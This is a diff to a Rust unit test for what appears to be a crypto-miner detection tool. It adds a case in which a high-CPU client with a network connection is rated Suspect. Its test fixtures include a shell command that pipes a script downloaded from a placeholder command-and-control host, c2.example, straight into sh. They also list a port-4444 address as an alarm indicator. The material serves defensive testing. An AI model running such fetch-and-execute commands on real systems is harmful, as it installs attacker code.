@@ -667,11 +667,12 @@ fn indicators_of_an_alarm_weigh_and_never_condemn_alone() {
     let quiet = Row::runs(301, "/opt/agent/agent", &["agent"]);
     let shell = Row::runs(302, "/usr/bin/dash", &["sh", "-c", "curl http://c2.example/i.sh | sh"]).packaged();
     let grep = Row::runs(303, "/usr/bin/grep", &["grep", "c2.example", "/var/log/x"]).packaged();
+    let honest = Row::runs(305, "/opt/client/client", &["client", "198.51.100.7:8443"]).cpu(90);
     let owned = Row::runs(304, "/usr/bin/gzip", &["gzip"]).packaged().cpu(90);
     let digest = |path: &str| deminer_worker::text::Digest::of(path.as_bytes()).to_string();
     use ProcessVerdict::{Clean, Miner, Suspect};
     // Who runs, what the alarm names, what comes of it.
-    let cases: [(&str, &Row, Vec<String>, ProcessVerdict); 9] = [
+    let cases: [(&str, &Row, Vec<String>, ProcessVerdict); 10] = [
         ("nothing named", &quiet, vec![], Clean),
         (
             "its file, in a hidden temporary place, deleted and busy",
@@ -693,6 +694,12 @@ fn indicators_of_an_alarm_weigh_and_never_condemn_alone() {
             &quiet,
             vec!["198.51.100.7:4444".to_owned()],
             Clean,
+        ),
+        (
+            "its connection and the word for it, busy: one thing",
+            &honest,
+            vec!["198.51.100.7".to_owned()],
+            Suspect,
         ),
         (
             "a name in its arguments",
